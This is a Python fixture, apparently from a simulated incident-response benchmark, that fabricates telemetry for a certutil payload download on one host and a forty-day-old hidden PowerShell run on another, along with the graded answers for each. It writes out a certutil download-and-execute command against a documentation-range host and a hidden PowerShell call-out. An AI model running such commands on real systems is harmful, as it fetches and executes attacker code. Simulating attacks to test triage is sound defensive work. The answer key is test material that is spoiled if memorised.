"""Two alerts whose telemetry is not there when they arrive: one for minutes, one for good.

The first, on srv-file-01, is the newest alert; its rows arrive late (T1105). The second, on wks-hr-03, is
forty days old, beyond the thirty days that hunting remembers.
"""

from local.incidents.case import Case, Expectation, process_evidence, user_evidence
from local.incidents.clock import DAY, SECOND
from local.incidents.estate import OPERATOR, PARTNER
from local.incidents.programs import program
from local.incidents.stage import Stage, attacker, clock, later
from local.incidents.world import Device, Process

_URL = "http://192.0.2.180/agent.exe"


def tell(stage: Stage) -> None:
    """Records both, and raises their alerts."""
    _too_old(stage)
    _late(stage)


def _late(stage: Stage) -> None:
    record, born, raised = stage.recorder, clock("09:30:20.6110284"), clock("09:30:58.2041173")
    explorer = stage.estate.resident("srv-file-01", "explorer.exe")
    before = len(record.rows)
    agent = attacker("agent.exe", "C:\\ProgramData")
    line = f"certutil.exe -urlcache -split -f {_URL} {agent.path}"
    shell = record.start(
        explorer, program("windows", "cmd.exe"), f"cmd.exe /c {line} && {agent.path}", at=born
    )
    fetch = record.start(
        shell,
        program("windows", "certutil.exe"),
        line,
        at=later(born, 4.4),
        life=3 * 10**8,
    )
    record.network(fetch, later(born, 4.9), ip="192.0.2.180", port=80, url=_URL)
    record.file(fetch, later(born, 6.2), "FileCreated", stage.drop(agent), origin=_URL)
    run = record.start(shell, agent, agent.path, at=later(born, 9.1), life=25 * SECOND)
    record.network(run, later(born, 11.8), ip="192.0.2.180", port=4_433)
    for row in record.rows[before:]:
        row.arrives_after = round(stage.late_seconds + (raised - row.time) / SECOND, 3)
    _alert_on_download(stage, shell, born, raised)


def _alert_on_download(stage: Stage, shell: Process, born: int, raised: int) -> None:
    stage.raise_alert(
        Case(
            title="Suspicious download with certutil",
            description="A system tool was used to fetch a program.",
            severity="Medium",
            category="CommandAndControl",
            device=shell.device,
            first=shell.created,
            last=later(born, 9.2),
            created=raised,
            evidence=(process_evidence(shell), user_evidence(OPERATOR)),
            expected=Expectation(
                "ExactProcess",
                "Confirmed",
                "The fetched program ran and called out.",
                anchors=(shell,),
                techniques=("T1105",),
            ),
            incident=1057,
            techniques=("T1105",),
            user=OPERATOR,
        )
    )


def _too_old(stage: Stage) -> None:
    record, born = stage.recorder, clock("06:11:29.7051994") - 40 * DAY
    device = stage.estate.device("wks-hr-03")
    shell = record.start(
        None,
        program("windows", "explorer.exe"),
        "explorer.exe",
        at=born - DAY,
        device=device,
        account=PARTNER,
    )
    script = record.start(
        shell, program("windows", "powershell.exe"), "powershell.exe -w hidden -file u.ps1", at=born
    )
    record.network(script, later(born, 1.8), ip="203.0.113.200")
    _alert_on_old_script(stage, script, born, device)


def _alert_on_old_script(stage: Stage, script: Process, born: int, device: Device) -> None:
    stage.raise_alert(
        Case(
            title="Hidden PowerShell window",
            description="A script ran without a window.",
            severity="Medium",
            category="Execution",
            device=device,
            first=born,
            last=later(born, 2),
            created=later(born, 140.2),
            evidence=(process_evidence(script), user_evidence(PARTNER)),
            expected=Expectation(
                "None",
                "NoTelemetry",
                "Hunting keeps thirty days; the alert is forty days old.",
                anchors=(script,),
                status="NoMatch",
                reason="OlderThan30Days",
                scored_by="status",
                kind="benign",
            ),
            incident=977,
            techniques=("T1059.001",),
            user=PARTNER,
            status="Resolved",
            classification="InformationalExpectedActivity",
            determination="ConfirmedUserActivity",
            comments=(("soc@contoso.example", "a login script of ours"),),
        )
    )
